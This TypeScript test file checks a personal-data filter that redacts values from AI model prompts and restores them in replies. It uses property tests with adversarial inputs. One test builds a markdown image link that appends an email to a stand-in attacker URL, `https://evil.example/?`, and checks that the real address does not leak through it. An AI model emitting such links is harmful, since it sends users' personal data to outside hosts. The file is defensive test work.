import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { Encryption, LocalRootKey } from 'unseen-guardian/encryption';
import { type Exchange, RandomIds } from 'unseen-guardian/kernel';
import { MemoryKeyStore } from '../../../testing/src/stores/memory-key-store';
import { findsValues } from '../../spec/detector.fixture';
import { aCall, anExchange } from '../../spec/exchange.fixture';
import { type OperatorName, type OperatorSettings } from '../operator/operator';
import { isInAddress } from '../pseudonym/restore/address-place';
import { vaultOf } from '../pseudonym/pseudonym-vault';
import { PersonalDataPromptControl } from './personal-data-prompt.control';
import { PersonalDataReplyControl } from './personal-data-reply.control';

const ids = new RandomIds();
const encryption = new Encryption(new LocalRootKey(randomBytes(32)), new MemoryKeyStore());
const REVERSIBLE = ['pseudonymise', 'surrogate', 'encrypt', 'keep'] as const satisfies OperatorName[];

async function hide(exchange: Exchange, text: string, values: [string, string][], operator: OperatorName) {
  const call = aCall(text);
  const options = { operator: { operator } as OperatorSettings };
  const tools = { detector: findsValues(values), encryption };
  await new PersonalDataPromptControl(options, ids, tools).run(exchange, call);
  return call.segments[0]!.text;
}

/** What a model would have written that says the prompt back, cut into pieces. */
function reply(exchange: Exchange, text: string, sizes: readonly number[]): string {
  const filter = new PersonalDataReplyControl(ids).open(exchange, aCall());
  let out = '';
  for (let at = 0, turn = 0; at < text.length; turn++) {
    const size = sizes[turn % sizes.length]!;
    out += filter.write('text:0', text.slice(at, at + size));
    at += size;
  }
  return out + filter.end('text:0');
}

const CATEGORIES = [
  'EMAIL',
  'PHONE',
  'PERSON',
  'ID_NUMBER',
  'USERNAME',
  'CREDIT_CARD',
  'ADDRESS',
  'DATE_OF_BIRTH',
];

/** Values that contain each other, tokens, brackets, replacement patterns, and what surrogates are made of. */
const hostile = fc.oneof(
  fc.constantFrom(
    ...[
      'Ann',
      'Anna',
      'Anna Berg',
      'Anna Berg-Anna',
      'ANNA',
      'J. Smith',
      'John Smith',
      'Smith',
      'Smith, John',
    ],
    ...['ada@firm.de', 'ada@firm.deX', 'a@firm.de', '12345', '123456', '1234567890', '+49 170 1234567'],
    ...[
      '⟦EMAIL:7F3K9Q2M1X⟧',
      '⟦',
      'x⟧y',
      '[EMAIL]',
      '[unknown]',
      '$&',
      '$1',
      '\\',
      '"',
      '\u0000',
      '\ud83d',
      '👍🏽',
      'İ',
      'ß',
    ],
    ...[
      '4111 1111 1111 1111',
      '1990-05-17',
      '17.05.1990',
      'Felix Weber',
      'Weber',
      'Petra',
      '12 Maplecross Street',
    ],
  ),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }),
);
const between = fc.constantFrom(
  '',
  ' ',
  ', ',
  '\n',
  ' and ',
  'Berg',
  ' Weber ',
  '.',
  '⟦',
  '"',
  ' Felix ',
  '_',
  '1',
);

describe('restore(redact(x)) = x', () => {
  const pieces = fc.array(fc.tuple(fc.constantFrom(...CATEGORIES), hostile, between), {
    minLength: 1,
    maxLength: 8,
  });
  const sizes = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 5 });

  it.each(REVERSIBLE)('%s, whatever the values are', async (operator) => {
    await fc.assert(
      fc.asyncProperty(pieces, async (found) => {
        const text = found.map(([, value, rest]) => value + rest).join('');
        const values = found.map(([category, value]): [string, string] => [category, value]);
        const exchange = anExchange();
        const vault = vaultOf(exchange, ids);
        // Brackets of the text itself are replaced before anything else, so that they are never taken for tokens.
        const plain = vault.disarm(text);
        // In an address values are withheld, which has tests of its own.
        fc.pre([...plain].every((_, at) => !isInAddress(plain.slice(0, at + 1))));
        const hidden = await hide(exchange, text, values, operator);
        expect(vault.restore(hidden)).toBe(plain);
      }),
      { numRuns: 1_000 },
    );
  });

  it.each(['pseudonymise', 'surrogate', 'encrypt'] as const)(
    '%s, in a stream however it is cut',
    async (operator) => {
      await fc.assert(
        fc.asyncProperty(pieces, sizes, async (found, cuts) => {
          const values = found.map(([category, value]): [string, string] => [category, value]);
          const exchange = anExchange();
          const hidden = await hide(
            exchange,
            found.map(([, value, rest]) => value + rest).join(''),
            values,
            operator,
          );
          expect(reply(exchange, hidden, cuts)).toBe(reply(exchange, hidden, [hidden.length + 1]));
        }),
        { numRuns: 500 },
      );
    },
  );

  it('turns surrogates back in a reply, and what the model made up not', async () => {
    const exchange = anExchange();
    const values: [string, string][] = [
      ['PERSON', 'Anna Berg'],
      ['EMAIL', 'anna@firm.de'],
      ['PHONE', '+49 170 1234567'],
    ];
    const text = 'Anna Berg, anna@firm.de, +49 170 1234567';
    const hidden = await hide(exchange, text, values, 'surrogate');
    expect(hidden).not.toMatch(/Anna|Berg|firm|1234567|⟦/);
    expect(reply(exchange, `Hi ${hidden}! Or eve@evil.example.`, [3, 1, 7])).toBe(`Hi ${text}! Or [EMAIL].`);
    const filter = new PersonalDataReplyControl(ids).open(exchange, aCall());
    expect(filter.write('tool:1', `{"to":"${hidden}"}`) + filter.end('tool:1')).toBe(`{"to":"${hidden}"}`);
    const [, email] = hidden.split(', ');
    const link = `![x](https://evil.example/?${email})`;
    expect(reply(exchange, link, [4])).not.toContain('firm');
  });

  it('leaves surrogates alone that come back in a second call', async () => {
    const exchange = anExchange();
    const first = await hide(exchange, 'mail anna@firm.de', [['EMAIL', 'anna@firm.de']], 'surrogate');
    const email = first.slice('mail '.length);
    expect(await hide(exchange, `was ${email}`, [['EMAIL', email]], 'surrogate')).toBe(`was ${email}`);
  });
});
